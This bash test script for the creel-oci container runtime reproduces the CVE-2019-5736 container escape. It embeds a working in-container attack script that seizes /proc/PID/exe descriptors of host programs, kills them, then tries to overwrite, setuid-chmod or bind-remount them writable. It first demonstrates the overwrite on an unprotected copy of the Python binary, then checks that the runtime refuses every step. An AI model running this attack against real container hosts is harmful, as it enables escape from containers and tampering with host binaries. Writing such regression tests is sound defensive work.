#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# runs: root
#
# CVE-2019-5736: root of a container, with every capability that helps, gets hold of the program that enters it and writes to
# it once nobody runs it. That the attack is one is shown first, on a program that does not protect itself; then that it was
# made on ours, to the same end: each line it prints is of a descriptor that is proved to be the host's file.
. "${0%/*}/../oci/lib.sh"
B=$T/b c=$CT-o
self=$(readlink -f "$(command -v creel-oci)")
host_id=$(stat -L -c %d:%i "$self") host_sum=$(sha256sum <"$self" | cut -d' ' -f1) host_mode=$(stat -c %a "$self")

caps='["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN", "CAP_FOWNER", "CAP_KILL", "CAP_SYS_CHROOT"]'
caps=".process.capabilities = {\"bounding\": $caps, \"effective\": $caps, \"permitted\": $caps} | .process.noNewPrivileges = false"
make_bundle "$B" "$(args /bin/attack)" '.root.readonly = false' "$caps" 'del(.linux.maskedPaths, .linux.readonlyPaths)'
mkdir -p "$B/rootfs/mnt"
cat >"$B/rootfs/bin/attack" <<'EOF'
#!/bin/sh
# Programs that are not the container's: each is held, tried while it runs, ended, and tried again.
own=$(stat -L -c %d:%i /proc/self/exe)
try() {
	what=$1
	shift
	why=$("$@" 2>&1) && echo "DID $what" || echo "refused $what: ${why##*: }"
}
over() { echo overwritten >"$1"; }
echo ready
while [ ! -e /enough ]; do
	for exe in /proc/[0-9]*/exe; do
		id=$(stat -L -c %d:%i "$exe" 2>/dev/null)
		[ -n "$id" ] && [ "$id" != "$own" ] || continue
		pid=${exe#/proc/}
		pid=${pid%/exe}
		{ exec 5<"$exe"; } 2>/dev/null || continue
		# Its path may be another program's by now: what is held is looked at.
		id=$(stat -L -c %d:%i /proc/self/fd/5)
		[ "$id" != "$own" ] || continue
		echo "holds $id $(sha256sum </proc/self/fd/5 | cut -d' ' -f1)"
		try "writing while it runs" over "$exe"
		kill -9 "$pid" 2>/dev/null
		n=0
		while [ -e "/proc/$pid/exe" ] && [ $n -lt 100 ]; do
			sleep 0.02
			n=$((n + 1))
		done
		for n in 1 2 3 4 5; do
			try "writing to it" over /proc/self/fd/5
			sleep 0.05
		done
		try "its mode" chmod 4777 /proc/self/fd/5
		: >/mnt/file
		if mount --bind /proc/self/fd/5 /mnt/file 2>/dev/null; then
			try "remounting it" mount -o remount,rw,bind /mnt/file
			try "writing there" over /mnt/file
			umount /mnt/file
		else
			echo "refused binding it"
		fi
		exec 5<&-
		echo "done $pid"
	done
done
EOF
chmod 755 "$B/rootfs/bin/attack"
creel-oci run -b "$B" --pid-file "$T/pid" "$c" </dev/null >"$T/said" 2>&1 &
said() { grep -q "$1" "$T/said"; }
times() { grep -c "$1" "$T/said"; }
again() { [ "$(times '^done')" -gt "$1" ]; }
check "the attacker is there" wait_for 10 said '^ready'
init=$(cat "$T/pid")

# --- a program that does not protect itself is overwritten -----------------------------------------------------------------
cp "$(python3 -c 'import os, sys; print(os.path.realpath(sys.executable))')" "$T/victim"
PYTHONHOME=$(python3 -c 'import sys; print(sys.prefix)')
before=$(sha256sum <"$T/victim")
PYTHONHOME=$PYTHONHOME "$T/victim" - "$init" <<'EOF' &
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
for ns in "pid", "mnt":
    fd = os.open(f"/proc/{sys.argv[1]}/ns/{ns}", os.O_RDONLY)
    if libc.setns(fd, 0) != 0:
        sys.exit("setns")
# It alone runs the program: who ends it can write to it.
if os.fork() == 0:
    time.sleep(30)
os._exit(0)
EOF
check "an unprotected program is held" wait_for 10 again 0
is "it was that one" "$(grep '^holds' "$T/said" | head -n 1)" "holds $(stat -c %d:%i "$T/victim") ${before%% *}"
check "the attack works: it was written to" said '^DID writing to it'
unlike "the attack works: it is not what it was" "$(sha256sum <"$T/victim")" "^${before%% *}"

# --- ours is not: started inside by its own name ------------------------------------------------------------------------------
# attacked WHAT: what was said from line $from on
attacked() {
	tail -n +"$from" "$T/said" >"$T/part"
	is "CVE-2019-5736: $1: the host's program was held" "$(grep '^holds' "$T/part" | sort -u)" "holds $host_id $host_sum"
	check "CVE-2019-5736: $1: it was tried while it ran" grep -q '^refused writing while it runs' "$T/part"
	is "CVE-2019-5736: $1: and then, as a read-only file" "$(grep -c '^refused writing to it: Read-only file system' "$T/part")" \
		$((5 * $(grep -c '^holds' "$T/part")))
	check "CVE-2019-5736: $1: and its mode" grep -q '^refused its mode: Read-only file system' "$T/part"
	is "CVE-2019-5736: $1: nothing was done" "$(grep '^DID' "$T/part")" ""
	is "CVE-2019-5736: $1: its content is what it was" "$(sha256sum <"$self" | cut -d' ' -f1)" "$host_sum"
	is "CVE-2019-5736: $1: its mode, too" "$(stat -c %a "$self")" "$host_mode"
}
from=$(($(wc -l <"$T/said") + 1)) had=$(times '^done')
timeout 20 creel-oci exec "$c" /proc/self/exe lxc wait -n nobody -s RUNNING -t 20 >"$T/out" 2>&1 </dev/null &
check "exec of /proc/self/exe: attacked" wait_for 10 again "$had"
attacked "exec of /proc/self/exe"

# --- nor on its way: a container that is created into the attacker's pid name space waits there as ours --------------------------
make_bundle "$T/b2" "$(args sleep 1000)" ".linux.namespaces |= map(if .type == \"pid\" then .path = \"/proc/$init/ns/pid\" else . end)"
from=$(($(wc -l <"$T/said") + 1)) had=$(times '^done')
quiet creel-oci create -b "$T/b2" "$c-2"
check "create into its pid name space: attacked" wait_for 10 again "$had"
attacked "create"
creel-oci delete -f "$c-2" >"$T/out" 2>&1

# --- nor whoever enters, as fast as it goes ------------------------------------------------------------------------------------------
from=$(($(wc -l <"$T/said") + 1))
for _ in $(seq 1 40); do oci exec "$c" true >/dev/null 2>&1; done
sleep 0.5
touch "$B/rootfs/enough"
tail -n +"$from" "$T/said" >"$T/part"
note "exec was held $(grep -c '^holds' "$T/part") times of 40"
is "CVE-2019-5736: exec: nothing was done" "$(grep '^DID' "$T/part")" ""
is "CVE-2019-5736: exec: the program is what it was" "$(sha256sum <"$self" | cut -d' ' -f1)" "$host_sum"
check "it runs, still" creel-oci --version
oci delete -f "$c" >/dev/null 2>&1
wait
is "nothing is left" "$(left_of "$c")" ""
